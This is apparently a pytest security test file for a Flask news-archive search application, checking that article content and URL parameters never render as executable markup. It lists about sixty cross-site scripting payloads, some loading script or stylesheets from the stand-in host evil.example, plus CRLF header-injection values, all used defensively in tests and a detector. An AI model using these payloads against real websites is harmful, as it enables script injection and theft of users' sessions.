"""Cross-site scripting: nothing that an article or an address says ever becomes markup."""

from collections.abc import Iterable, Iterator
from typing import Any
from urllib.parse import quote

import html5lib
import lxml.html
import pytest
from flask.testing import FlaskClient

from index.settings import Settings
from index.types import Article, Mention, PublicationDate, Tagged
from search.searcher import Searcher
from tests.archives import commit_articles
from web.application import create_application

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "JaVaScRiPt:alert(1)//<svg/onload=alert(1)>",
    "java\tscript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "{{ 7 * 7 }}{% print(7) %}",
    "${alert(1)}",
    "*<b>*x*</b>*",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "x' y\" z` <>&;=/",
)

ELEMENTS = {
    *("html", "head", "meta", "title", "link", "script", "body", "header", "nav", "main", "footer", "section", "aside"),
    *("article", "div", "p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody"),
    *("tr", "th", "td", "pre", "code", "kbd", "a", "b", "bdi", "q", "em", "strong", "mark", "span", "time", "form"),
    *("label", "input", "button", "select", "option", "fieldset", "legend", "dialog", "figure", "figcaption"),
    *("svg", "use", "line", "rect", "circle", "text", "g"),
}
"""All that our templates use: anything else came from outside."""


def executable(html: str) -> list[str]:
    """Give what a browser would run, load or follow that is not ours, having parsed the page as it does."""
    return dangers(html5lib.parse(html, namespaceHTMLElements=False).iter())


def dangers(elements: Iterable[Any]) -> list[str]:
    found = []
    for one in elements:
        if not isinstance(one.tag, str):
            continue
        tag = one.tag.rpartition("}")[2]
        if tag not in ELEMENTS and not (tag == "title" and "}" in one.tag):
            found.append(f"element {tag}")
        for name, value in one.attrib.items():
            plain = "".join(value.split()).lower()
            if name.startswith("on") or name in {"style", "srcdoc", "http-equiv"}:
                found.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction", "data", "xlink:href"}:
                ours = value.startswith(("/", "#")) and not value.startswith("//")
                source = tag == "a" and plain.startswith(("https://", "http://"))
                canonical = one.get("rel") == "canonical" and value.startswith("http://localhost/")
                if not (ours or source or canonical):
                    found.append(f"{tag} {name}={value}")
        if tag == "script" and not str(one.get("src")).startswith("/static/newsmorgue.js"):
            found.append("script")
    return found


def _article(number: int, payload: str) -> Tagged:
    text = f"{payload} said {payload}.\n\nwitness {number}"
    article = Article(
        id=f"{number:016x}",
        source=f"/tmp/{payload}",
        title=f"witness {payload}",
        text=text,
        url=payload,
        byline=payload,
        publisher=payload,
        published=PublicationDate(value="2021-12-03", precision="day", origin="page") if number % 2 else None,
        language="en",
    )
    end = len(payload)
    mentions = (
        Mention(kind="person", value=payload, surface=payload, field="text", start=0, end=end, via="test"),
        Mention(
            kind="outlet",
            value=payload,
            surface=payload,
            field="text",
            start=end + 6,
            end=2 * end + 6,
            via="test",
            role="cited",
        ),
    )
    return Tagged(article=article, mentions=mentions)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
    settings = Settings(data_dir=tmp_path_factory.mktemp("hostile"))
    articles = tuple(_article(number, payload) for number, payload in enumerate(PAYLOADS, 1))
    commit_articles(settings.data_dir, articles, settings=settings)
    searcher = Searcher(settings.data_dir, settings)
    yield create_application(searcher, settings).test_client()
    searcher.close()


def test_the_list_is_long_enough() -> None:
    assert len(set(PAYLOADS)) >= 40


def test_the_check_sees_what_is_executable() -> None:
    for payload in (
        "<img src=x onerror=alert(1)>",
        "<a href=' javascript:1'>",
        "<script>1</script>",
        "<base href=//x>",
    ):
        assert executable(f"<!doctype html><title>x</title>{payload}")


@pytest.mark.parametrize("number", range(1, len(PAYLOADS) + 1))
def test_an_article_of_payloads_stays_text(hostile: FlaskClient, number: int) -> None:
    for address in (f"/articles/{number:016x}?q=witness", f"/articles/{number:016x}/similar"):
        response = hostile.get(address)
        assert response.status_code == 200
        assert not executable(response.text)
        if address.endswith("witness"):
            text = "".join(html5lib.parse(response.text, namespaceHTMLElements=False).itertext())
            assert f"witness {number}" in text


@pytest.mark.parametrize(
    "address",
    [
        "/",
        "/?q=witness&size=20",
        "/people",
        "/people?order=az",
        "/outlets",
        "/facets/person?q=witness",
        "/help",
        "/about",
    ],
)
def test_lists_of_payloads_stay_text(hostile: FlaskClient, address: str) -> None:
    response = hostile.get(address)
    assert response.status_code == 200
    assert not executable(response.text)


PLACES = (
    *("/?q={}", "/?person={}", "/?-person={}", "/?outlet={}", "/?-outlet={}", "/?publisher={}", "/?person_mode={}"),
    *("/?from={}", "/?to={}", "/?undated={}", "/?sort={}", "/?size={}", "/?cursor={}", "/?facets={}", "/?{}=1"),
    *("/articles/{}", "/articles/0000000000000001?q={}", "/articles/0000000000000001?match={}"),
    *("/articles/{}/similar", "/people/{}", "/people?contains={}", "/people?order={}", "/people?letter={}"),
    *(
        "/people?page={}",
        "/people?{}=1",
        "/outlets/{}",
        "/facets/{}",
        "/facets/person?q={}",
        "/facets/person?contains={}",
    ),
    *("/help?{}", "/{}", "/suggest?q={}"),
)


@pytest.mark.parametrize("place", PLACES)
def test_a_payload_in_an_address_stays_text(hostile: FlaskClient, place: str) -> None:
    """The pages are many, so they are parsed by libxml2, which is quick."""
    for payload in PAYLOADS:
        response = hostile.get(place.format(quote(payload, safe="")), follow_redirects=True)
        assert response.status_code < 500
        assert response.mimetype in {"text/html", "application/json"}
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        if response.mimetype == "text/html":
            assert not dangers(lxml.html.document_fromstring(response.data).iter()), payload


def test_a_payload_never_becomes_a_header(hostile: FlaskClient) -> None:
    for payload in ("a\r\nSet-Cookie: x=1", "a\nX-Bad: 1"):
        response = hostile.get(f"/?q={quote(payload)}&from=")
        assert "Set-Cookie" not in response.headers
        assert "X-Bad" not in response.headers
